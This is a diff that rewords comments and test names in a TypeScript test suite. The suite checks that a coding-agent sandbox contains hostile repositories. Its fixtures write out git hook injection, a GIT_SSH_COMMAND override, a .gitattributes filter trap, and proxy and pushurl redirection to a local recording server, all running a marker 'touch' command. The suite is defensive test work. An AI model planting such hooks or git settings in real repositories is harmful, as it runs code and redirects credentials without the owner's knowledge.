@@ -1,4 +1,4 @@
-// Repositories, and agents, that mean harm: nothing of them runs outside of their sandbox, and no other session is hurt.
+// Hostile repositories and agents: nothing of them runs outside of their sandbox, and no other session is harmed.
 import assert from 'node:assert/strict';
 import { execFileSync } from 'node:child_process';
 import { existsSync, mkdirSync, symlinkSync } from 'node:fs';
@@ -13,12 +13,12 @@ import { gitToken, places, shareTestAgents, type TestAgents, testIn } from '../t
 import type { TestClient } from '../testing/client.ts';
 import { callAs } from '../testing/rest.ts';
 
-/** Containers may reach this machine here: what git says to somebody else is heard, not only kept from being said. */
+/** Lets containers reach this machine, so that git's requests to another server would arrive there. */
 const environment = { SANDBOX_ALLOWED_HOSTS: '10.0.0.0/8,172.16.0.0/12,192.168.0.0/16' };
 const agentsIn = { docker: shareTestAgents('docker', { environment }), local: shareTestAgents('local') };
 const { shell, read, edit } = callsOf('anthropic');
 
-/** What everything hostile here tries to make. In a container it may come into being; on this machine never. */
+/** The file that all hostile code here tries to make; it may be made in a container, never on this machine. */
 const traces = `/tmp/lucid-pwned-${process.pid}`;
 const pwn = `touch ${traces}`;
 
@@ -43,7 +43,7 @@ const begun = async (agents: TestAgents, repository: string): Promise<TestClient
   return client;
 };
 
-/** A session beside the hostile one, which must not feel it. */
+/** A session beside the hostile one, which must not be harmed. */
 async function bystanderOf(agents: TestAgents, t: TestContext): Promise<TestClient> {
   const repository = `ada/bystander-of-${t.name.length}`;
   agents.git.addRepository(repository);
@@ -65,7 +65,7 @@ const readFile = ({ engine }: TestAgents, { sessionId }: TestClient, path: strin
   callAs<{ content?: string }>(engine, 'ada', 'GET', `/api/v1/files/read?session_id=${sessionId}&path=${path}`);
 
 for (const place of places) {
-  testIn[place](`${place}: a repository full of traps is cloned and read, and none of them goes off`, async (t) => {
+  testIn[place](`${place}: a repository full of traps is cloned and read, and no trap runs`, async (t) => {
     const agents = await agentsIn[place]();
     const { git, fakeProvider } = agents;
     const bystander = await bystanderOf(agents, t);
@@ -128,7 +128,7 @@ for (const place of places) {
       if (place === 'docker') assert.ok(elsewhere.heard.length > 0, 'It could be reached.');
       assert.doesNotMatch(elsewhere.heard.join('\n'), /authorization/i);
       assert.doesNotMatch(JSON.stringify([client.frames, elsewhere.heard]), new RegExp(gitToken));
-      // What the engine does itself when the session is taken up again runs in the sandbox as well.
+      // Also git commands of the engine itself, when the session is activated again, run in the sandbox.
       await agents.stop();
       await agents.start();
       const again = await agents.attachClient(client.sessionId, { gitToken });
@@ -141,7 +141,7 @@ for (const place of places) {
 }
 
 testIn.local(
-  'thirty thousand files and a path of two hundred folders are worked in, while another session answers',
+  'an agent works among thirty thousand files and two hundred nested folders, while another session answers',
   async (t) => {
     const agents = await agentsIn.local();
     const { git, fakeProvider } = agents;
@@ -166,7 +166,7 @@ testIn.local(
   },
 );
 
-/** Files that would do something to whoever trusts them. */
+/** Files that run code, or redirect requests, of a program that trusts them. */
 const trapsWith = (url: string): Record<string, string> => ({
   'README.md': 'A repository.\n',
   '.gitattributes': '* filter=trap diff=trap merge=trap\n*.md text eol=lf\n',
@@ -197,7 +197,7 @@ const links = {
   loop: 'loop',
 };
 
-/** All that makes git run a program, or talk to another server. */
+/** Every setting that makes git run a program or ask another server. */
 const tampering = `
   export there GIT_SSH_COMMAND='${pwn}'
   printf '#!/bin/sh\\n${pwn}\\n' > .git/hooks/pre-push; cp .git/hooks/pre-push .git/hooks/post-checkout; chmod +x .git/hooks/*
@@ -210,7 +210,7 @@ const tampering = `
   git config remote.origin.proxy $there; git config remote.origin.pushurl $there/ada/tampered
   git config --global url.$there/.insteadOfSection http://127.0.0.1`;
 
-/** A server of somebody else, which writes down what it is told. */
+/** Another server, which records its requests. */
 class Elsewhere {
   readonly #server: Server;
   readonly heard: string[] = [];
@@ -222,7 +222,7 @@ class Elsewhere {
     });
   }
 
-  /** On all addresses of this machine: containers reach it. */
+  /** Listens on all addresses of this machine, so that containers reach it. */
   static async open(): Promise<Elsewhere> {
     const elsewhere = new Elsewhere();
     await new Promise<void>((resolve) => elsewhere.#server.listen(0, '0.0.0.0', resolve));
